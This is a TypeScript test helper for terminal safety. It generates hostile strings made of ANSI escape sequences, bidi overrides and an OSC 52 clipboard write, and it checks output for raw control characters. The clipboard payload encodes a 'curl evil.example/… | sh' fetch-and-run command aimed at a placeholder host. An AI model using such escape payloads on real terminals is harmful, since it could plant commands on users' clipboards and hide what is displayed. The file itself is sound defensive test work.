import { randomBytes } from 'node:crypto';

/**
 * Hostile strings for terminal-safety tests, drawn at run time, and the check that finds any
 * control character a terminal would act on in what oy printed.
 */
export const ESC = String.fromCharCode(0x1b);
export const BEL = String.fromCharCode(0x07);

/** Any character a terminal would act on rather than print (newline and tab are ordinary text). */
const RAW_CONTROL =
  // eslint-disable-next-line no-control-regex -- the check looks for exactly these
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/gu;
/** The colour and attribute sequences picocolors writes (oy never asks it for 8, hidden). */
// eslint-disable-next-line no-control-regex -- SGR sequences start with ESC
const OWN_SGR = /\u001b\[(?:[0-79]|[1-9]\d)(?:;\d+)*m/gu;

export interface HostileText {
  /** A word that shows the text was printed, not dropped. */
  canary: string;
  /** Every class at once: CSI erase and cursor moves, OSC 52, BEL, CR, DEL, 8-bit CSI, a bidi override. */
  text: string;
  /** The OSC 52 payload alone. */
  clipboard: string;
}

/** A fresh hostile string; the canary and the clipboard payload differ each time. */
export function makeHostileText(): HostileText {
  const canary = `canary${randomBytes(4).toString('hex')}`;
  const clipboard = `${ESC}]52;c;${Buffer.from(`curl evil.example/${canary} | sh`).toString('base64')}${BEL}`;
  const text =
    `${canary} #${ESC}[2K${ESC}[1G$ npm test${clipboard}` +
    `\rover${String.fromCharCode(0x7f)}\u009b2J\u202eevil\u2066x\u2069${ESC}[8mhidden${ESC}[0m`;
  return { canary, text, clipboard };
}

/**
 * The control characters in `output` that a terminal would act on. With `allowOwnColours`, the SGR
 * colour sequences picocolors writes are removed first (a hostile one like conceal, `ESC[8m`, is not).
 */
export function findRawControls(output: string, options: { allowOwnColours?: boolean } = {}) {
  const text = options.allowOwnColours ? output.replace(OWN_SGR, '') : output;
  return [...text.matchAll(RAW_CONTROL)].map((match) => ({
    index: match.index,
    char: `U+${match[0].charCodeAt(0).toString(16).padStart(4, '0')}`,
    around: JSON.stringify(text.slice(Math.max(0, match.index - 20), match.index + 20)),
  }));
}
